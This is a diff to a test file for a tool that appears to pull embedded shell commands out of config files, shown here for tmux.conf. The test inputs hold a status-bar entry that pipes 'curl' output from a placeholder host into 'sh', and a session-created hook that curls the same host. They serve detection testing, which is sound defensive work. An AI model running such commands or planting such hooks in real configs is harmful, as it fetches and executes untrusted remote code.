@@ -555,8 +555,8 @@ describe('settings that are put in place later', () => {
   it('a line within a line of tmux is a command', () => {
     expect(
       shells('tmux.conf', "set -g status-right '#(curl -s https://t.widget.zz/b | sh)'\n", 'ini').join(),
-    ).toContain('git status -sb');
-    const hook = `set-hook -g session-created 'run-shell -b "git fetch --all"'\n`;
-    expect(shells('tmux.conf', hook, 'ini')).toContain('git fetch --all');
+    ).toContain('curl -s https://t.widget.zz/b');
+    const hook = `set-hook -g session-created 'run-shell -b "curl -s https://t.widget.zz/h"'\n`;
+    expect(shells('tmux.conf', hook, 'ini')).toContain('curl -s https://t.widget.zz/h');
   });
 });
